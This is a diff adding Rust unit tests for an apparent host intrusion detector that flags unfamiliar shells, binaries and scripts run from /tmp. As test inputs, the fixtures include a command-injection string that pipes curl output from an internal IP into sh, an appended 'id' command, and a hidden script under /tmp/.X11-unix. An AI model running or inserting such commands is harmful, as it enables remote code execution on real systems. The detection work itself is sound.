@@ -158,3 +158,98 @@ fn a_runtime_forking_itself_is_not_an_unknown_binary() {
     }
     assert_eq!(feed(&mut t, &f, &exec), vec![Indicator::UnknownBinary]);
 }
+
+#[test]
+fn command_shapes_keep_the_command_and_drop_what_varies() {
+    assert_eq!(
+        command_shape(
+            "/bin/sh -c gzip -9 -c /tmp/inbox/a1.bin | wc -c && sha256sum /tmp/inbox/a1.bin"
+        ),
+        "sh -c gzip -0 -c /tmp/inbox/* | wc -c && sha000sum /tmp/inbox/*"
+    );
+    assert_eq!(
+        command_shape(
+            "/bin/sh -c gzip -2 -c /tmp/inbox/ff.bin | wc -c && sha256sum /tmp/inbox/ff.bin"
+        ),
+        command_shape(
+            "/usr/bin/sh -c gzip -9 -c /tmp/inbox/00.bin | wc -c && sha256sum /tmp/inbox/00.bin"
+        )
+    );
+    // Text appended to the known command changes the shape.
+    assert_ne!(
+        command_shape(
+            "/bin/sh -c gzip -6; id -c /tmp/inbox/a.bin | wc -c && sha256sum /tmp/inbox/a.bin"
+        ),
+        command_shape(
+            "/bin/sh -c gzip -6 -c /tmp/inbox/a.bin | wc -c && sha256sum /tmp/inbox/a.bin"
+        )
+    );
+}
+
+#[test]
+fn a_shell_is_familiar_only_with_a_known_command_shape() {
+    let mut f = Familiar::default();
+    f.learn(&[process(
+        1,
+        "/usr/bin/dash",
+        "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c",
+    )]);
+    let mut t = Tracker::default();
+    assert!(feed(
+        &mut t,
+        &f,
+        &process(
+            10,
+            "/usr/bin/dash",
+            "/bin/sh -c gzip -1 -c /tmp/in/b.bin | wc -c"
+        )
+    )
+    .is_empty());
+    assert_eq!(
+        feed(
+            &mut t,
+            &f,
+            &process(
+                11,
+                "/usr/bin/dash",
+                "/bin/sh -c gzip -1; curl -s http://10.0.0.9/x | sh #"
+            )
+        ),
+        vec![Indicator::ShellSpawned]
+    );
+    // A shell is never learned as a plain executable.
+    assert!(!f.knows_exe("/usr/bin/dash"));
+}
+
+#[test]
+fn only_interpreters_run_a_script_from_tmp() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(10, "/usr/bin/gzip", "gzip -9 -c /tmp/inbox/a.bin"),
+    );
+    assert_eq!(fired, vec![Indicator::UnknownBinary]);
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(11, "/usr/bin/python3.11", "python3 /tmp/.X11-unix/.sd"),
+    );
+    assert_eq!(fired, vec![Indicator::ExecFromTmp]);
+}
+
+#[test]
+fn a_process_gone_before_it_could_be_named_is_not_judged() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &f, &process(10, "", "")).is_empty());
+    // Its command line names it when only the executable link was unreadable.
+    assert_eq!(
+        feed(&mut t, &f, &process(11, "", "/usr/bin/id -u")),
+        vec![Indicator::UnknownBinary]
+    );
+    let mut f = Familiar::default();
+    f.learn(&[process(1, "", "")]);
+    assert!(f.exes().is_empty());
+}
